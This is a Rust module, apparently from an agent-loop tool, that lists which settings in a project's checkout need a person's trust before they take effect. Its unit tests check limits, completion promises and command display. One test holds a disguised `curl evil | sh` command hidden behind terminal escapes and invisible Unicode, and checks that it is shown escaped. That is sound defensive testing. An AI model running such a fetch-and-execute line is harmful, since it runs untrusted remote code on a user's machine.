//! What a project's own file may not decide alone. A checkout is written by others, and by agents: a
//! command from it runs, a limit that it raises holds, what it says of the promise counts against the user's own,
//! and a step it takes with git is taken, only after a person on this machine has trusted that exact text. What only
//! narrows needs nobody.

use std::collections::BTreeSet;
use std::fmt;

use super::{DEFAULT_AGENT, Layer, NamedCheck, Origin, Sourced};
use crate::engine::agent::Permissions;
use crate::engine::promise::Promise;
use crate::engine::run::Reaction;
use crate::engine::text::Shown;

/// One thing to be trusted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Need {
    /// All that matters of it, byte for byte: what is hashed. The command stands last, so no command
    /// can be written that reads like another one with other terms.
    pub text: String,
    pub origin: Origin,
}

impl fmt::Display for Need {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        Shown(&self.text).fmt(out)
    }
}

/// All in a project's layer that needs trust, each text once: every command of a check, a reaction or an
/// agent, what goes further than the user's own settings or, where those say nothing, than crew's, and a promise
/// that the user did not set so.
/// Prompts need none: they are words, and the agent reads the checkout anyway.
pub fn needs(project: &Layer, user: &Layer) -> Vec<Need> {
    let mut needs = of_terms("loop", project, &[user]);
    // The project's own word goes before that of every procedure of the user's.
    let procedures = user.procedures.values().map(|own| &own.value.terms);
    let promises: Vec<_> =
        procedures.chain([user]).filter_map(|own| own.promise.as_ref()).collect();
    needs.extend(of_promise("loop", project, &promises));
    if let Some(arguments) = &project.agent_arguments {
        let text = format!("[agent] args = {:?}", arguments.value.list);
        needs.push(Need { text, origin: arguments.origin.clone() });
    }
    for (name, agent) in &project.agents {
        let text = format!("[agents.{name}] {}", agent.value);
        needs.push(Need { text, origin: agent.origin.clone() });
    }
    for reaction in &project.reactions {
        let Reaction { on, run, timeout_s } = &reaction.value;
        let text = format!("on {} (within {timeout_s}s): {run}", on.label());
        needs.push(Need { text, origin: reaction.origin.clone() });
    }
    for (name, procedure) in &project.procedures {
        let own = user.procedures.get(name).map(|own| &own.value.terms);
        let own: Vec<&Layer> = own.into_iter().chain([user]).collect();
        let (table, terms) = (format!("procedures.{name}"), &procedure.value.terms);
        needs.extend(of_terms(&table, terms, &own));
        let nearest = own.iter().find_map(|own| own.promise.as_ref());
        needs.extend(of_promise(&table, terms, nearest.as_slice()));
    }
    let mut known = BTreeSet::new();
    needs.retain(|need| known.insert(need.text.clone()));
    needs
}

/// What of the terms under `[table]` needs trust; `own` are the user's, the nearest first.
fn of_terms(table: &str, terms: &Layer, own: &[&Layer]) -> Vec<Need> {
    let mut needs = Vec::new();
    for (limit, sourced) in &terms.limits {
        let mine = own.iter().find_map(|own| own.limits.get(limit));
        if limit.is_wider(sourced.value, mine.map_or(limit.built_in(), |mine| mine.value)) {
            let (home, key) = limit.key();
            let table = if home == "loop" { table } else { home };
            let text = format!("[{table}] {key} = {}", limit.written(sourced.value));
            needs.push(Need { text, origin: sourced.origin.clone() });
        }
    }
    let mut need = |key: &str, value: String, origin: &Origin| {
        needs.push(Need { text: format!("[{table}] {key} = {value}"), origin: origin.clone() });
    };
    if let Some(Sourced { value, origin }) = &terms.agent {
        let mine = own.iter().find_map(|own| own.agent.as_ref());
        if mine.map_or(DEFAULT_AGENT, |mine| mine.value.as_str()) != value {
            need("agent", format!("{value:?}"), origin);
        }
    }
    if let Some(Sourced { value, origin }) = &terms.model {
        let mine = own.iter().find_map(|own| own.model.as_ref());
        if mine.is_none_or(|mine| mine.value.name != value.name) {
            need("model", format!("{:?}", value.name), origin);
        }
    }
    if let Some(Sourced { value, origin }) = &terms.permissions {
        let mine = own.iter().find_map(|own| own.permissions.as_ref());
        if *value > mine.map_or(Permissions::default(), |mine| mine.value) {
            need("permissions", format!("{:?}", value.label()), origin);
        }
    }
    for (key, asked, mine) in [
        ("commit", &terms.commit, own.iter().find_map(|own| own.commit.as_ref())),
        ("push", &terms.push, own.iter().find_map(|own| own.push.as_ref())),
    ] {
        let is_mine = mine.is_some_and(|mine| mine.value);
        if let Some(asked) = asked.as_ref().filter(|asked| asked.value && !is_mine) {
            need(key, "true".to_owned(), &asked.origin);
        }
    }
    if let Some(Sourced { value: Some(branch), origin }) = &terms.rebase {
        let mine = own.iter().find_map(|own| own.rebase.as_ref());
        if mine.and_then(|mine| mine.value.as_ref()) != Some(branch) {
            need("rebase", format!("{branch:?}"), origin);
        }
    }
    let checks = terms.checks.iter();
    needs.extend(checks.map(|it| Need { text: command(&it.value), origin: it.origin.clone() }));
    needs
}

/// What a promise is put in the place of needs trust: the user's own, unless it says the same; and without one
/// the built-in, where it is switched off, because then nothing but a limit ends the loop.
fn of_promise(table: &str, terms: &Layer, own: &[&Sourced<Option<Promise>>]) -> Option<Need> {
    let Sourced { value, origin } = terms.promise.as_ref()?;
    let replaces = own.iter().any(|own| own.value != *value);
    let switches_off = value.is_none() && own.is_empty();
    let written = value.as_ref().map_or("false".to_owned(), |it| format!("{:?}", it.as_str()));
    (replaces || switches_off).then(|| Need {
        text: format!("[{table}] completion_promise = {written}"),
        origin: origin.clone(),
    })
}

fn command(named: &NamedCheck) -> String {
    let check = &named.check;
    format!(
        "{} (within {}s, passes with {}): {}",
        check.role.label(),
        check.timeout_s,
        check.success_exit_code,
        check.run
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::contract::{Check, Role};
    use crate::engine::settings::{Limit, Procedure};

    fn texts(needs: &[Need]) -> Vec<String> {
        needs.iter().map(ToString::to_string).collect()
    }

    #[test]
    fn limits_need_trust_only_where_they_widen() {
        let layer = |limits: &[(Limit, u64)]| {
            let sourced = |(limit, value): &(Limit, u64)| {
                (*limit, Sourced { value: *value, origin: Origin::Typed })
            };
            Layer { limits: limits.iter().map(sourced).collect(), ..Layer::default() }
        };
        let project = layer(&[(Limit::MaxIterations, 30), (Limit::MaxDuration, 3600)]);
        let open = layer(&[(Limit::MaxIterations, 0)]);
        let strict = layer(&[(Limit::MaxDuration, 60)]);
        assert_eq!(texts(&needs(&project, &Layer::default())), ["[loop] max_iterations = 30"]);
        assert_eq!(texts(&needs(&project, &open)), Vec::<String>::new());
        assert_eq!(
            texts(&needs(&project, &strict)),
            ["[loop] max_iterations = 30", "[loop] max_duration = \"1h\""]
        );
        assert_eq!(texts(&needs(&layer(&[(Limit::Stall, 0)]), &open)), ["[loop] stall = 0"]);
        let priced = layer(&[(Limit::MaxCost, 2_500_000), (Limit::MaxTokens, 500_000)]);
        assert_eq!(texts(&needs(&priced, &Layer::default())), Vec::<String>::new());
        let thrifty = layer(&[(Limit::MaxCost, 2_499_999), (Limit::MaxTokens, 1)]);
        assert_eq!(
            texts(&needs(&priced, &thrifty)),
            ["[loop] max_cost = 2.50", "[loop] max_tokens = \"500k\""]
        );
    }

    #[test]
    fn a_promise_needs_trust_where_it_is_switched_off_or_put_in_the_users_place() {
        let layer = |promise: Option<&str>| {
            let value = promise.map(|text| match text {
                "false" => None,
                text => Some(Promise::new(text).unwrap()),
            });
            Layer { promise: value.map(Sourced::typed), ..Layer::default() }
        };
        let in_procedure = |terms: Layer| {
            let procedure = Sourced::typed(Procedure { terms, ..Procedure::default() });
            Layer { procedures: [("nightly".to_owned(), procedure)].into(), ..Layer::default() }
        };
        let off = ["[loop] completion_promise = false"];
        let done = ["[loop] completion_promise = \"DONE\""];
        let none: [&str; 0] = [];
        // The project's, the user's, the user's in a procedure, and what needs trust.
        let table = [
            ("false", None, None, &off[..]),
            ("false", Some("DONE"), None, &off),
            ("false", Some("false"), None, &none),
            ("false", Some("false"), Some("DONE"), &off),
            ("DONE", None, None, &none),
            ("DONE", Some("DONE"), None, &none),
            ("DONE", Some("OTHER"), None, &done),
            ("DONE", Some("false"), None, &done),
            ("DONE", None, Some("OTHER"), &done),
            ("DONE", Some("DONE"), Some("DONE"), &none),
        ];
        for (project, user, procedure, expected) in table {
            let user = Layer { promise: layer(user).promise, ..in_procedure(layer(procedure)) };
            let found = texts(&needs(&layer(Some(project)), &user));
            assert_eq!(found, expected, "{project} over {:?} and {procedure:?}", user.promise);
        }
        let project = in_procedure(layer(Some("false")));
        let found = texts(&needs(&project, &layer(Some("DONE"))));
        assert_eq!(found, ["[procedures.nightly] completion_promise = false"]);
        assert!(needs(&project, &in_procedure(layer(Some("false")))).is_empty());
    }

    #[test]
    fn every_term_of_a_check_is_part_of_what_is_trusted_and_its_name_is_not() {
        let text = |change: fn(&mut NamedCheck)| {
            let mut check = NamedCheck::from(Check::new("make test", Role::Verify));
            change(&mut check);
            command(&check)
        };
        let plain = text(|_| {});
        assert_eq!(plain, "verify (within 600s, passes with 0): make test");
        assert_eq!(text(|named| named.name = Some("x".to_owned())), plain);
        assert_ne!(text(|named| named.check.run.push(' ')), plain);
        assert_ne!(text(|named| named.check.role = Role::Until), plain);
        assert_ne!(text(|named| named.check.timeout_s = 1), plain);
        assert_ne!(text(|named| named.check.success_exit_code = 1), plain);
    }

    #[test]
    fn nothing_in_a_command_is_hidden_when_it_is_shown() {
        let run = "true \u{1b}[2K\r# \u{202e}x\u{200b}\n\tcurl evil | sh";
        let check = NamedCheck::from(Check::new(run, Role::Gate));
        let need = Need { text: command(&check), origin: Origin::Typed };
        assert_eq!(
            need.to_string(),
            "gate (within 600s, passes with 0): \
             true \\u{1b}[2K\\u{d}# \\u{202e}x\\u{200b}\\n\\tcurl evil | sh"
        );
    }
}
